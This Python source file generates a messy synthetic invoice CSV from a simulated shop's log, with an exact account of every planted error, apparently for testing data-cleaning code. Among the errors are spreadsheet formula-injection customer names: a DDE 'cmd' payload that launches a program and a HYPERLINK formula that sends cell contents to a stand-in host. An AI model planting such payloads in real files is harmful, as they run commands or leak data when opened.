"""A log written the way small shops keep theirs, with an account of every wrong thing in it."""

import csv
import datetime as dt
from collections.abc import Iterator, Sequence
from decimal import Decimal
from os import PathLike
from typing import Any

import attrs
import numpy as np
from attrs import field, frozen

from retention.errors import ConfigError, nearest
from retention.frames.table import IntColumn
from retention.records import TransactionLog
from retention.worlds._draws import hashed_uniform, stream
from retention.worlds.shop import Category

__all__ = ["HEADER", "Planted", "Mess", "write_invoices"]

HEADER = ("Invoice", "Date", "Customer", "Name", "Item", "Category", "Channel", "Qty", "Unit price", "Cost")
"""Columns of the file; ``Cost`` is that of the whole line, so margin = Qty x Unit price - Cost."""

ADDED = {
    "duplicate": "an exact copy of the row above it",
    "blank_customer": "a sale to nobody known",
    "impossible_date": "a day that no calendar has",
    "zero_price": "a sample that cost nothing",
    "absurd_price": "a bar code typed where the price goes",
    "no_price": "words where the price should be",
    "ragged": "a row that breaks off after the name",
}
MARKED = {
    "credit_note": "an invoice number with a C before it, and negative quantities",
    "cancelled": "either half of an order and the credit note that undid it",
    "decimal_comma": "12,50 or 1.234,50",
    "thousands": "1,234.50 or 1.234,50",
    "date_dotted": "31.12.2010 14:05",
    "date_slashed": "31/12/2010 14:05, only where the day cannot be a month",
    "date_worded": "31 Dec 2010 14:05",
    "formula": "a customer's name that a spreadsheet would run",
}

_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_BAR_CODE = 3_600_029_145_200  # 036000291452, in cents
_IMPOSSIBLE = ("2010-02-30 10:00", "31.04.2010 11:20", "2010-13-05 09:15", "00/00/0000")
_FORMULAS = ('=HYPERLINK("http://example.invalid/"&A1;"click me")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)")
_FIRST = ("Ada", "Zoë", "Maud", "Ines", "Ruth", "Jürgen", "Noor", "Piet", "Renée", "Tove", "Olga", "Sam")
_LAST = ("Field", "O'Neill", "Müller", "Baker", "Núñez", "van Dam", "Løv", "Stone", "Rossi", "Ferry", "Kaya")


@frozen(kw_only=True)
class Planted:
    """One kind of mess: how many rows bear it, what money stands on them, and where they are.

    ``money`` is the sum of quantity times unit price (zero where the row has no readable price), ``lines`` are line
    numbers in the file, the header being line 1. ``added`` says that these rows are no part of the log.
    """

    kind: str
    rows: int
    money: Decimal
    lines: tuple[int, ...]
    added: bool


@frozen(kw_only=True)
class Mess:
    """What a written file holds: its ``rows`` are the log's and the added ones, and so is its ``money``, exactly.

    Example:
        >>> import tempfile, pathlib
        >>> from retention.worlds import Shop
        >>> world = Shop.corner_shop(customers=40, years=1).simulate()
        >>> with tempfile.TemporaryDirectory() as folder:
        ...     account = world.write_invoices(pathlib.Path(folder) / "invoices.csv")
        >>> added = [p for p in account.planted if p.added]
        >>> account.rows == len(world.log) + sum(p.rows for p in added)
        True
        >>> account.money == world.log.revenue.total() + sum(p.money for p in added)
        True
    """

    rows: int
    money: Decimal
    log_rows: int
    log_money: Decimal
    encoding: str
    delimiter: str
    planted: tuple[Planted, ...] = field(repr=False)

    def __getitem__(self, kind: str) -> Planted:
        """The account of one kind of mess."""
        for one in self.planted:
            if one.kind == kind:
                return one
        raise ConfigError(
            f"kind={kind!r}", rule="ask for a kind of mess", remedy=nearest(kind, [p.kind for p in self.planted])
        )


@frozen(eq=False, kw_only=True)
class _Sale:
    """One row before it is written; ``kind`` says why it was added, if it was. Money in cents."""

    invoice: str
    at: dt.datetime
    customer: str
    name: str
    item: str
    category: str
    channel: str
    quantity: int
    price: int
    cost: int
    kind: str | None = None
    is_cancelled: bool = False


@frozen(eq=False)
class _Row:
    """One row as it stands in the file."""

    cells: Sequence[str]
    money: Decimal
    kinds: tuple[str, ...]


def write_invoices(
    log: TransactionLog,
    categories: Sequence[Category],
    path: str | PathLike[str],
    *,
    mess: bool = True,
    seed: int = 0,
    encoding: str = "utf-8-sig",
    delimiter: str = ";",
) -> Mess:
    """Write the log as an invoice file and say what was planted in it.

    With ``mess`` every kind of :data:`ADDED` and :data:`MARKED` mess that the log has room for is there; without,
    there is one date and number format and nothing added (credit notes and cancelled orders are part of a shop's
    life, and stay). ``encoding`` may be ``"cp1252"`` for the bytes of an old till; the default begins with a
    byte-order mark. All rows of the log are written, in its order; added rows stand between them. Same log, seed
    and options: same bytes. The log must have what a world's log has: orders, quantities, categories and channels.
    """
    sales = list(_sales(log, categories))
    if mess and sales:
        sales = _with_formulas(sales, stream(seed, "formulas"))
        sales = _with_additions(sales, stream(seed, "additions"))
        rows = _with_duplicates(_in_mixed_styles(sales, stream(seed, "styles")), stream(seed, "duplicates"))
    else:
        rows = [_written(sale, date_style=0, number_style=0) for sale in sales]
    with open(path, "w", encoding=encoding, newline="") as file:
        writer = csv.writer(file, delimiter=delimiter, lineterminator="\r\n")
        writer.writerow(HEADER)
        writer.writerows(row.cells for row in rows)
    return Mess(
        rows=len(rows),
        money=sum((row.money for row in rows), Decimal("0.00")),
        log_rows=len(log),
        log_money=log.revenue.total(),
        encoding=encoding,
        delimiter=delimiter,
        planted=tuple(_account(rows, kind) for kind in (*ADDED, *MARKED)),
    )


def _account(rows: Sequence[_Row], kind: str) -> Planted:
    bearing = [number for number, row in enumerate(rows) if kind in row.kinds]
    return Planted(
        kind=kind,
        rows=len(bearing),
        money=sum((rows[number].money for number in bearing), Decimal("0.00")),
        lines=tuple(number + 2 for number in bearing),
        added=kind in ADDED,
    )


def _sales(log: TransactionLog, categories: Sequence[Category]) -> Iterator[_Sale]:
    """The log's lines with what a log does not keep: a name for each customer, an item for each price."""
    if log.quantity is None or log.orders is None or log.categories is None or log.channels is None:
        raise ConfigError(
            "a log without orders, quantities, categories or channels",
            rule="an invoice says what was sold, and how many",
            remedy="write the log of a simulated world",
        )
    quantity = log.quantity.astype(np.int64)
    revenue, margin = log.revenue.at_scale(2), log.margin.at_scale(2)
    price, cancelled = revenue // quantity, log.is_cancelled
    key = np.asarray([int(label) for label in log.customers.labels], dtype=np.int64)
    names = _names(key)
    shelf_of = {category.name: number for number, category in enumerate(categories)}
    number = np.asarray([shelf_of[str(label)] for label in log.categories.labels], dtype=np.int64)[log.categories.codes]
    pick = hashed_uniform(key[log.customers.codes], number, price, purpose="item")
    whos, shelves, orders, channels = (c.text() for c in (log.customers, log.categories, log.orders, log.channels))
    for i, at in enumerate(log.at.tolist()):
        items = categories[number[i]].items
        yield _Sale(
            invoice=str(orders[i]),
            at=at,
            customer=str(whos[i]),
            name=names[log.customers.codes[i]],
            item=items[int(pick[i] * len(items))],
            category=str(shelves[i]),
            channel=str(channels[i]),
            quantity=int(quantity[i]),
            price=int(price[i]),
            cost=int(revenue[i] - margin[i]),
            is_cancelled=bool(cancelled[i]),
        )


def _names(key: IntColumn) -> list[str]:
    first = (hashed_uniform(key, purpose="first name") * len(_FIRST)).astype(int)
    last = (hashed_uniform(key, purpose="last name") * len(_LAST)).astype(int)
    return [f"{_FIRST[a]} {_LAST[b]}" for a, b in zip(first, last, strict=True)]


def _with_formulas(sales: Sequence[_Sale], rng: np.random.Generator) -> list[_Sale]:
    """A few customers whose name is a formula."""
    ids = sorted({sale.customer for sale in sales})
    chosen = rng.choice(ids, size=min(len(_FORMULAS), len(ids)), replace=False).tolist()
    names = dict(zip(chosen, _FORMULAS, strict=False))
    return [attrs.evolve(sale, name=names[sale.customer]) if sale.customer in names else sale for sale in sales]


def _with_additions(sales: Sequence[_Sale], rng: np.random.Generator) -> list[_Sale]:
    """Sales that no log should take as they stand, each some rows after the real one that it imitates."""
    n = len(sales)
    counts = {
        "blank_customer": 5 + n // 50,
        "impossible_date": 4 + n // 500,
        "zero_price": 4 + n // 300,
        "absurd_price": 1,
        "no_price": 2 + n // 2000,
        "ragged": 2 + n // 1000,
    }
    changes: dict[str, dict[str, Any]] = {
        "blank_customer": {"customer": "", "name": ""},
        "zero_price": {"price": 0, "cost": 0},
        "absurd_price": {"price": _BAR_CODE, "quantity": 1},
    }
    models = [i for i, sale in enumerate(sales) if sale.quantity > 0 and not sale.is_cancelled]
    after: dict[int, list[_Sale]] = {}
    for kind, count in counts.items():
        for number, i in enumerate(sorted(rng.choice(models, size=count).tolist())):
            fresh = attrs.evolve(sales[i], invoice=f"{kind[0].upper()}{number + 1}", kind=kind, **changes.get(kind, {}))
            after.setdefault(i, []).append(fresh)
    return [one for i, sale in enumerate(sales) for one in (sale, *after.get(i, ()))]


def _in_mixed_styles(sales: Sequence[_Sale], rng: np.random.Generator) -> list[_Row]:
    """Most rows plain, some as other hands and tills write them; thousands are always grouped."""
    dates = rng.choice(4, size=len(sales), p=(0.7, 0.15, 0.1, 0.05)).tolist()
    plain = np.asarray([sale.price < 100_000 for sale in sales])
    numbers = np.where(plain & (rng.random(len(sales)) < 0.85), 0, rng.integers(1, 3, size=len(sales))).tolist()
    return [_written(sale, date_style=d, number_style=m) for sale, d, m in zip(sales, dates, numbers, strict=True)]


def _with_duplicates(rows: Sequence[_Row], rng: np.random.Generator) -> list[_Row]:
    """Some of the log's own purchases twice, as when a page is exported again."""
    own = [i for i, row in enumerate(rows) if not {*ADDED, "credit_note", "cancelled"} & {*row.kinds}]
    twice = set(rng.choice(own, size=min(3 + len(rows) // 200, len(own)), replace=False).tolist())
    copies = {i: _Row(rows[i].cells, rows[i].money, (*rows[i].kinds, "duplicate")) for i in twice}
    return [one for i, row in enumerate(rows) for one in ((row, copies[i]) if i in copies else (row,))]


def _written(sale: _Sale, *, date_style: int, number_style: int) -> _Row:
    """One sale as cells, and which kinds of mess are in them."""
    kinds: list[str] = [] if sale.kind is None else [sale.kind]
    if sale.kind == "impossible_date":
        date = _IMPOSSIBLE[sale.price % len(_IMPOSSIBLE)]
    else:
        date = _date(sale.at, date_style, kinds)
    price = "ask Maud" if sale.kind == "no_price" else _number(sale.price, number_style, kinds)
    cost = _number(sale.cost, number_style, [])
    quantity = str(sale.quantity)
    money = Decimal(sale.quantity * sale.price).scaleb(-2)
    kinds += ["credit_note"] if sale.invoice.startswith("C") else []
    kinds += ["cancelled"] if sale.is_cancelled else []
    kinds += ["formula"] if sale.name in _FORMULAS else []
    cells: tuple[str, ...] = (
        sale.invoice,
        date,
        sale.customer,
        sale.name,
        sale.item,
        sale.category,
        sale.channel,
        quantity,
        price,
        cost,
    )
    if sale.kind == "ragged":
        cells = cells[:4]
        kinds = [kind for kind in kinds if kind not in ("decimal_comma", "thousands")]
    if sale.kind in ("ragged", "no_price"):
        money = Decimal("0.00")
    return _Row(cells, money, tuple(kinds))


def _date(at: dt.datetime, style: int, kinds: list[str]) -> str:
    """A date in one of four styles, each of which can be told from the others and read in one way only."""
    if style == 1:
        kinds.append("date_dotted")
        return f"{at:%d.%m.%Y %H:%M}"
    if style == 2 and at.day > 12:
        kinds.append("date_slashed")
        return f"{at:%d/%m/%Y %H:%M}"
    if style == 3:
        kinds.append("date_worded")
        return f"{at.day:02d} {_MONTHS[at.month - 1]} {at:%Y %H:%M}"
    return f"{at:%Y-%m-%d %H:%M}"


def _number(cents: int, style: int, kinds: list[str]) -> str:
    """An amount with two decimals: 1250.00, 1.250,00 or 1,250.00."""
    if style == 0:
        return str(Decimal(cents).scaleb(-2))
    grouped = f"{Decimal(cents).scaleb(-2):,}"
    kinds += ["thousands"] if "," in grouped else []
    if style == 2:
        return grouped
    kinds.append("decimal_comma")
    return grouped.translate(str.maketrans(",.", ".,"))
